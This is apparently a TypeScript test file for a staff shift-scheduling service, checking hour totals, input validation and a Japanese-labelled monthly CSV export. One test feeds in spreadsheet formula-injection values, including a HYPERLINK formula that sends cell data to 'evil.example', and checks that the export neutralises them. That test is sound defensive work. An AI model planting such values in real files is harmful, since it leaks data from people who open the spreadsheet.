import { shiftMessages } from '@app/contracts';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createClientWithUsers } from '../../../testing/factories.ts';
import { createShift, createShiftStore, createStaff, storeCaller } from '../../../testing/shift-factories.ts';
import { createTestApp, type TestApp } from '../../../testing/test-app.ts';

let t: TestApp;
let reader: ReturnType<typeof storeCaller>;
let owner: { clientId: number; cookie: string };
const ids = { s1: 0, s2: 0, helper: 0 };

const at = (local: string) => `${local}:00+09:00`;

/**
 * December 2026 in Tokyo, by hand:
 * 一郎 approved 12/1 09:00-17:00 (8h), 12/2 22:00-翌02:30 (4.5h, counts on 12/2), 12/3 rest,
 *      12/10 09:00-12:00 and 13:00-17:00 (7h); a draft and a request that do not count. Total 19.5h.
 * 二郎 approved 12/1 10:00-14:45 (4.75h), 12/31 23:00-翌03:00 (4h), and 11/30 22:00-翌06:00 (November). 8.75h.
 * 佐藤, ヘルプ (helper) 12/15 12:00-13:00 (1h). A pending staff member has nothing.
 */
beforeAll(async () => {
  t = await createTestApp();
  const a = await createClientWithUsers(t.app, t.db);
  const store = await createShiftStore(t.db, a.client.id);
  reader = storeCaller(t.app, store.id, a.staff.cookie);
  owner = { clientId: a.client.id, cookie: a.staff.cookie };
  const s1 = await createStaff(t.db, store, { displayName: '一郎', employeeNumber: 'E-01' });
  const s2 = await createStaff(t.db, store, { displayName: '二郎' });
  const helper = await createStaff(t.db, store, { helperName: '佐藤, ヘルプ' });
  await createStaff(t.db, store, { status: 'PENDING' });
  Object.assign(ids, { s1: s1.id, s2: s2.id, helper: helper.id });
  const approved = (staffId: number, start: string, end: string, isRest = false) =>
    createShift(t.db, store, { staffId, status: 'APPROVED', startAt: at(start), endAt: at(end), isRest });
  await approved(s1.id, '2026-12-01T09:00', '2026-12-01T17:00');
  await approved(s1.id, '2026-12-02T22:00', '2026-12-03T02:30');
  await approved(s1.id, '2026-12-03T09:00', '2026-12-03T18:00', true);
  await approved(s1.id, '2026-12-10T09:00', '2026-12-10T12:00');
  await approved(s1.id, '2026-12-10T13:00', '2026-12-10T17:00');
  await createShift(t.db, store, {
    staffId: s1.id,
    status: 'DRAFT',
    startAt: at('2026-12-04T09:00'),
    endAt: at('2026-12-04T17:00'),
  });
  await createShift(t.db, store, {
    staffId: s1.id,
    startAt: at('2026-12-05T09:00'),
    endAt: at('2026-12-05T17:00'),
  });
  await approved(s2.id, '2026-12-01T10:00', '2026-12-01T14:45');
  await approved(s2.id, '2026-12-31T23:00', '2027-01-01T03:00');
  await approved(s2.id, '2026-11-30T22:00', '2026-12-01T06:00');
  await approved(helper.id, '2026-12-15T12:00', '2026-12-15T13:00');
});
afterAll(async () => {
  await t.close();
});

describe('hours', () => {
  it('monthly: approved, non-rest hours per staff member, on the day each shift starts', async () => {
    const response = await reader('POST', '/staff/monthly-hours', { body: { year: 2026, month: 12 } });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({
      year: 2026,
      month: 12,
      staffHours: [
        { staffId: ids.s1, name: '一郎', totalHours: 19.5 },
        { staffId: ids.s2, name: '二郎', totalHours: 8.75 },
        { staffId: ids.helper, name: '佐藤, ヘルプ', totalHours: 1 },
      ],
    });
    const november = await reader('POST', '/staff/monthly-hours', { body: { year: 2026, month: 11 } });
    expect(november.json().staffHours.find((s: { staffId: number }) => s.staffId === ids.s2).totalHours).toBe(
      8,
    );
  });

  it('daily: per staff member and day, with the dates', async () => {
    const response = await reader('POST', '/staff/daily-hours', {
      body: { startDate: '2026-11-30', endDate: '2026-12-02' },
    });
    expect(response.statusCode).toBe(200);
    const body = response.json();
    expect(body.dates).toEqual(['2026-11-30', '2026-12-01', '2026-12-02']);
    expect(body.staffHours).toEqual([
      {
        staffId: ids.s1,
        name: '一郎',
        totalHours: 12.5,
        dates: [
          { date: '2026-11-30', totalHours: 0 },
          { date: '2026-12-01', totalHours: 8 },
          { date: '2026-12-02', totalHours: 4.5 },
        ],
      },
      {
        staffId: ids.s2,
        name: '二郎',
        totalHours: 12.75,
        dates: [
          { date: '2026-11-30', totalHours: 8 },
          { date: '2026-12-01', totalHours: 4.75 },
          { date: '2026-12-02', totalHours: 0 },
        ],
      },
      {
        staffId: ids.helper,
        name: '佐藤, ヘルプ',
        totalHours: 0,
        dates: [
          { date: '2026-11-30', totalHours: 0 },
          { date: '2026-12-01', totalHours: 0 },
          { date: '2026-12-02', totalHours: 0 },
        ],
      },
    ]);
  });

  it.each([
    ['/staff/monthly-hours', { year: 2019, month: 1 }, shiftMessages.year],
    ['/staff/monthly-hours', { year: 2101, month: 1 }, shiftMessages.year],
    ['/staff/monthly-hours', { year: '2026', month: 1 }, shiftMessages.year],
    ['/staff/monthly-hours', { year: 2026, month: 13 }, shiftMessages.month],
    ['/staff/monthly-hours', { year: 2026 }, shiftMessages.month],
    [
      '/staff/daily-hours',
      { startDate: '2026-12-1', endDate: '2026-12-02' },
      'Invalid date format. Expected YYYY-MM-DD.',
    ],
    ['/staff/daily-hours', { startDate: '2026-12-03', endDate: '2026-12-02' }, shiftMessages.dayRangeOrder],
    ['/staff/daily-hours', { startDate: '2026-01-01', endDate: '2026-12-02' }, shiftMessages.rangeTooLong],
  ])('%s refuses %j', async (path, body, message) => {
    const response = await reader('POST', path, { body });
    expect(response.statusCode).toBe(400);
    expect(response.json().message).toBe(message);
  });
});

describe('monthly CSV', () => {
  it('is a staff x day table with totals, UTF-8 with a BOM, CRLF, quoted where needed', async () => {
    const response = await reader('GET', '/staff-shift/monthly/csv', {
      query: { year: '2026', month: '12' },
    });
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(response.headers['content-disposition']).toMatch(
      /^attachment; filename="shift-\d+-2026-12\.csv"$/,
    );
    const raw = response.rawPayload;
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = raw.subarray(3).toString('utf8');
    expect(text.endsWith('\r\n')).toBe(true);
    const lines = text.trimEnd().split('\r\n');
    expect(lines).toHaveLength(5);
    const cell = (line: string) => {
      const out: string[] = [];
      let field = '';
      let quoted = false;
      for (let i = 0; i < line.length; i++) {
        const c = line[i]!;
        if (quoted && c === '"' && line[i + 1] === '"') {
          field += '"';
          i++;
        } else if (c === '"') quoted = !quoted;
        else if (c === ',' && !quoted) {
          out.push(field);
          field = '';
        } else field += c;
      }
      return [...out, field];
    };
    const header = cell(lines[0]!);
    expect(header.slice(0, 4)).toEqual(['スタッフ', '社員番号', '12/1(火)', '12/2(水)']);
    expect(header.at(-2)).toBe('12/31(木)');
    expect(header.at(-1)).toBe('合計時間');
    expect(header).toHaveLength(2 + 31 + 1);
    const day = (row: string[], d: number) => row[1 + d];
    const s1 = cell(lines[1]!);
    expect(s1.slice(0, 2)).toEqual(['一郎', 'E-01']);
    expect([day(s1, 1), day(s1, 2), day(s1, 3), day(s1, 4), day(s1, 5), day(s1, 10)]).toEqual([
      '09:00-17:00',
      '22:00-翌02:30',
      '休',
      '',
      '',
      '09:00-12:00 / 13:00-17:00',
    ]);
    expect(s1.at(-1)).toBe('19.5');
    const s2 = cell(lines[2]!);
    expect([s2[0], day(s2, 1), day(s2, 31), s2.at(-1)]).toEqual([
      '二郎',
      '10:00-14:45',
      '23:00-翌03:00',
      '8.75',
    ]);
    expect(lines[3]!.startsWith('"佐藤, ヘルプ",')).toBe(true);
    const helper = cell(lines[3]!);
    expect([helper[0], day(helper, 15), helper.at(-1)]).toEqual(['佐藤, ヘルプ', '12:00-13:00', '1']);
    const totals = cell(lines[4]!);
    expect([
      totals[0],
      day(totals, 1),
      day(totals, 2),
      day(totals, 3),
      day(totals, 10),
      day(totals, 15),
      day(totals, 31),
    ]).toEqual(['日計', '12.75', '4.5', '0', '7', '1', '4']);
    expect(totals.at(-1)).toBe('29.25');
  });

  it('writes names a spreadsheet would run as formulas as text: a LINE display name, a helper, a number', async () => {
    const store = await createShiftStore(t.db, owner.clientId);
    const caller = storeCaller(t.app, store.id, owner.cookie);
    const evil = await createStaff(t.db, store, {
      displayName: '=HYPERLINK("http://evil.example/?"&A1,"開く")',
      employeeNumber: '+81-3-1234',
    });
    const helper = await createStaff(t.db, store, { helperName: '@SUM(A1:A9)' });
    for (const staffId of [evil.id, helper.id])
      await createShift(t.db, store, {
        staffId,
        status: 'APPROVED',
        startAt: at('2027-01-05T09:00'),
        endAt: at('2027-01-05T12:00'),
      });
    const response = await caller('GET', '/staff-shift/monthly/csv', { query: { year: '2027', month: '1' } });
    expect(response.statusCode).toBe(200);
    const lines = response.rawPayload.subarray(3).toString('utf8').trimEnd().split('\r\n');
    expect(lines[1]!.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""開く"")",'+81-3-1234,`)).toBe(
      true,
    );
    expect(lines[2]!.startsWith("'@SUM(A1:A9),,")).toBe(true);
    for (const line of lines) expect(line).not.toMatch(/(^|,)[=+\-@]/);
  });
});
